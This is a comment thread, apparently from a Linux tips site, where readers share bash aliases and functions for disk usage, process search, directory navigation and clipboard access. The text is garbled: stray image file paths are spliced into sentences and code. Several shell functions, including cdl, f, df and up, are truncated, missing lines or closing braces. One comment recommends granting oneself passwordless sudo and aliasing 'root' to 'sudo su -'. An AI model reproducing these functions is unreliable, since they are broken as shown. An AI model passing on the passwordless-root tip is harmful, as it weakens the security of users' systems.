  • Babu Jun 12, 2012 @ 3:33Like it ! Thanks.

  • Honeypuck Jun 12, 2012 @ 3:39

    Nice commands!
    In case you would like to be shown the contents of a directory immediately after moving to it by cd DIRECTORY you could define the following function in .bashrc:

    cdl()    {
      ls -al;
    You can modify the options of ls to meet your needs of course. Next time you switch directories on the command line with 'cdl DIRECTORY' it will automatically execute the command 'ls -al', displaying all subdirectories and files (hidden ones as well when setting the option -a). I hope this will be useful for someone. In case you like the alias, do not forget to change
    alias ..='cd ..'
    alias ..='cdl ..'

    • sky Jan 6, 2015 @ 19:09

      It is really useful but how do you using this on the alias line….alias …….= ‘………………………..’

      • ANVER HISHAM Aug 25, 2016 @ 10:51

        I think it’s not possible, because ‘alias’ can’t accept input, just like we did with $1 here.

    • ANVER HISHAM Aug 25, 2016 @ 10:48

      It should be
      cdl() { cd "$@"; ls; }

      There should be a space between “cd” and “$@”• Rishi G Jun 12, 2012 @ 4:01

    Here are 4 commands i use for checking out disk usages.

    #Grabs the disk usage in the current directory
    alias usage='du -ch | grep total'
    #Gets the total disk usage on your machine
    alias totalusage='df -hl --total | grep total'
    #Shows the individual partition usages without the temporary memory values
    alias partusage='df -hlT --exclude-type=tmpfs --exclude-type=devtmpfs'
    #Gives you what is using the most space. Both directories and files. Varies on
    #current directory
    alias most='du -hsx * | sort -rh | head -10'
    • shadowbq Dec 17, 2012 @ 14:08

      usage is better written as

      alias usage=’du -ch 2> /dev/null |tail -1′

    • Mark Jan 12, 2013 @ 18:08

      Thank you all for your aliases.
      I found this one long time ago and it proved to be useful.

      # shoot the fat ducks in your current dir and sub dirs
      alias ducks=’du -ck | sort -nr | head’

    • Karsten Jul 17, 2013 @ 21:30

      While it would still work, the problem with usage=’du -ch | grep total’ is that you will also get directory names that happen to also have the word ‘total’ in them.

      A better way to do this might be: ‘du -ch | tail -1’

      • Karsten Jul 17, 2013 @ 21:57Over dinner I thought to myself “hmm, what if I want to use the total in a script?” and came up with this in mid entrée:

        du -h | awk ‘END{print $1}’

        Now you’ll just get something like: 92G

  • James C. Woodburn Jun 12, 2012 @ 11:45

    I always create a ps2 command that I can easily pass a string to and look for it in the process table. I even have it remove the grep of the current line.

    alias ps2=’ps -ef | grep -v $$ |grep -i ‘

    • sbin_bash Mar 26, 2013 @ 13:14

      with header:

      alias psg=’ps -Helf | grep -v $$ | grep -i -e WCHAN -e ‘

  • Juanma Jun 12, 2012 @ 12:45

    Nice post. Thanks.
    @oll & Vivek: I’m sure you know this, but to leave trace of it in this page I’ll mention that, at least in Bash, you have functions as a compromise between aliases and scripts. In fact, Isolved a similar situation to what is described in #7 with a function:
    I keep some files under version control, hard-linking to those files into a given folder, so I want find to ignore that folder, and I don’t want to re-think and re-check how to use prune option every time:function f {
        arg_path=$1 && shift
        find $arg_path -wholename "*/path-to-ignore/*" -prune -o $* -print
  • hhanff Jun 12, 2012 @ 14:15

    # This will move you up by one dir when pushing AltGr .
    # It will move you back when pushing AltGr Shift .
    bind ‘”…”:”pushd ..n”‘ # AltGr .
    bind ‘”÷”:”popdn”‘ # AltGr Shift .


  • Bill C. Jun 12, 2012 @ 16:58

    One more thing to keep in mind is the difference in syntax between shells. I used to work on a system that used HP-UX and Sun Solaris, and the alias commands were different. One system used
    alias ll=’ls -l’
    and the other one (I can’t remember which was which, sorry) was
    alias ll ‘ls -l’

    Something to be aware of!

    Thanks for this article and the site, V! Keep ’em coming!

  • old486whizz Jun 12, 2012 @ 17:16

    I would use a function for df:
    df () {
    if [[ “$1” = “-gt” ]]; then
    x=$x” $@”
    /bin/df $x -P |column -t

    That way you can put “df -k /tmp” (etc).… I work with AIX a lot, so often end up typing “df -gt”, so that’s why the if statement is there.

    I also changed “mount” to “mnt” for the column’s:
    alias mnt=”mount |column -t”

  • Art Protin Jun 12, 2012 @ 21:53

    Any alias of rm is a very stupid idea (except maybe alias rm=echo fool).

    A co-worker had such an alias. Imagine the disaster when, visiting a customer site, he did “rm *” in the customer’s work directory and all he got was the prompt for the next command after rm had done what it was told to do.

    It you want a safety net, do “alias del=’rm -I –preserve_root'”,

    • Drew Hammond Mar 26, 2014 @ 19:41

      ^ This x10000.

      I’ve made the same mistake before and its horrible.

  • Opt Jun 13, 2012 @ 0:22

    Great post I’ve been looking for something like this I always tend to go about things the long way round. With these alias and some shell scripting I’m really starting to cut down on wasted time!

    Thanks again!

  • Blue Thing Jun 13, 2012 @ 6:19

    I use this one when I need to find the filesthat has been added/modified most recently:

    alias lt=’ls -alrt’

  • tef Jun 14, 2012 @ 16:56
    # file tree
    alias tree="find . -print | sed -e 's;[^/]*/;|____;g;s;____|; |;g'"
    #turnscreen off
    alias screenoff="xset dpms force off"
    # list folders by size in current directory
    alias usage="du -h --max-depth=1 | sort -rh"
    # e.g., up -> go up 1 directory
    # up 4 -> go up 4 directories
        if [[ $1 =~ ^[0-9]+$ ]]; then
            while [ $x -lt ${1:-1} ]; do
        cd "$dir";
  • tef Jun 14, 2012 @ 19:38

    might be a repost, oops

    # ganked these from people#not an alias, but I thought this simpler than the cd control
    #If you pass no arguments, it just goes up one directory.
    #If you pass a numeric argument it will go up that number of directories.
    #If you pass a string argument, it will look for a parent directory with that name and go up to it.
        if [ -z "$1" ]; then
        elif [[ $1 =~ ^[0-9]+$ ]]; then
            while [ $x -lt ${1:-1} ]; do
        cd "$dir";
    #turn screen off
    alias screenoff="xset dpms force off"
    #quick file tree
    alias filetree="find . -print | sed -e 's;[^/]*/;|____;g;s;____|; |;g'"
  • em Jun 20, 2012 @ 5:31

    a little mistake, not really important if you don’t copy/paste like a dumbass

    alias iptlistfw=’sudo /sbin/iptables -L FORWORD -n -v –line-numbers’

    it is “FORWARD”, not “FORWORD”

  •  nixCraft Jun 20, 2012 @ 6:34


    Thanks for the heads up.• nishanth Jul 20, 2012 @ 4:38

    In “Task: Disable an alias temporarily (bash syntax)”

    ## path/to/full/command


    ## call alias with a backslash ##

    c ===> This should be clear right?

    • Biocyberman Oct 22, 2012 @ 9:07


      Previously he set the alias:alias c=’clear’
      so c is correct.

      • O-Deka-K Mar 12, 2013 @ 15:34

        True, but unless you have aprogram called ‘c’, this doesn’t do anything useful. The example doesn’t really illustrate the point. This one is better:

        ## Interactive remove
        alias rm='rm -i'
        ## Call the alias (interactiveremove)
        ## Call the original command (non-interactive remove)
  • kioopi Nov 26, 2012 @ 9:55
    alias tgrep='rgrep --binary-files=without-match'
    alias serve='python -m SimpleHTTPServer'
  • Mac Maha Nov 27, 2012 @ 9:58

    I used it this way.
    I added myself to visudo file with nopasswd privileges.
    so that I don’t have to type password when I do “sudo su -“.
    Then created alias root=’sudo su -‘
    This enables me to log in to root with just “root”.

    by the ways the article is very helpful for everyone who works on linux servers or desktops on everyday basis.
    Mac Maha.

  • Larry Helms Dec 2, 2012 @23:00

    I move across various *nix type OSes. I have found that it’s easiest to keep my login stuff (aliases & environment variables) in separate files as in .aliases-{OS}. E.g.:


    All I have to do then in .bashrc, or .profile, whatever is do this:

    OS=$( uname | tr '[:upper:]' ':[lower:]')
    . $HOME/.aliases-${OS}
    . $HOME/.environment_variables-${OS}for SCRIPT in $( ls -1 $HOME/scripts/login/*-${OS} )
      . ${SCRIPT}
    • EW1(SG) Jan 1, 2013 @ 15:38

      And Larry wins the thread going away!

  • Martin Dec 4, 2012 @ 9:31

    i have 2 more that haven’t been posted yet:

    helps with copy and pasting to and from a terminal using X and the mouse. (i chose the alias name according to what the internet said the corresponding macos commands are.)

    alias pbcopy='xsel --clipboard --input'
    alias pbpaste='xsel --clipboard --output'

    and something I use rather frequently when people chose funny file/directory names (sad enough):

    chr() {
      printf \$(printf '%03o' $1)
    ord() {
      printf '%d' "'$1"
    • Martin Dec 4, 2012 @ 9:33the pb* aliases are especially for piping output to the clipboard and vice versa

  • Tom Dec 20, 2012 @ 14:18

    That was a great list. Here are some of mine:

    I use cdbin to cd into a bin folder that is many subdirectories deep:

    alias cdbin='cd "/mnt/shared/Dropbox/My Documents/Linux/bin/"'

    I can never remember the sync command.

    alias flush=sync

    I search the command history a lot:

    alias hg='history|grep '

    My samba share lives inside a TrueCrypt volume, so I have to manually restart samba after TC has loaded.

    alias restsmb='sudo service smb restart'I’m surprised that nobody else suggested these:

    alias syi='sudo yum install'
    alias sys='sudo yum search'
  • zork Jan 16, 2013 @ 16:59

    I find these aliases are helpful

    alias up1="cd .."
    # edit multiple files split horizontally or vertically
    alias   e="vim -o "
    alias   E="vim -O "
    # directory-size-date (remove the echo/blank line if you desire)
    alias dsd="echo;ls -Fla"
    alias   dsdm="ls -FlAh | more"
    # show directories only
    alias   dsdd="ls -FlA | grep :*/"
    # show executables only
    alias   dsdx="ls -FlA | grep *"
    # show non-executables
    alias   dsdnx="ls -FlA | grep -v *"
    # order by date
    alias   dsdt="ls -FlAtr "
    # dsd plus sum of file sizes
    alias   dsdz="ls -Fla $1 $2 $3 $4 $5  | awk '{ print; x=x+$5 } END { print "total bytes = ",x }'"
    # only file without an extension
    alias noext='dsd | egrep -v ".|/"'
    # send pwd to titlebar in puttytel
    alias   ttb='echo -ne "33]0;`pwd`07"'
    # send parameter to titlebar if given, else remove certain paths from pwd
    alias   ttbx="titlebar"
    # titlebar
    if [ $# -lt 1 ]
        ttb=`pwd | sed -e 's+/projects/++' -e 's+/project01/++' -e 's+/project02/++' -e 's+/export/home/++' -e 's+/home/++'`
    echo -ne "33]0;`echo $ttb`07"
    alias machine="echo you are logged in to ... `uname -a | cut -f2 -d' '`"
    alias info='clear;machine;pwd'
  • Tom Hand Jan 18, 2013 @ 5:47

    A couple you might mind useful.

    alias trace='mtr --report-wide --curses $1'
    alias killtcp='sudo ngrep -qK 1 $1 -d wlan0'
    alias usage='ifconfig wlan0 | grep 'bytes''alias connections='sudo lsof -n -P -i +c 15'
  • pidegat Jan 25, 2013 @ 19:24

    to avoid some history aliases, ctrl+R and type letter of your desired command in history.When I discover ctrl+R my life changed !

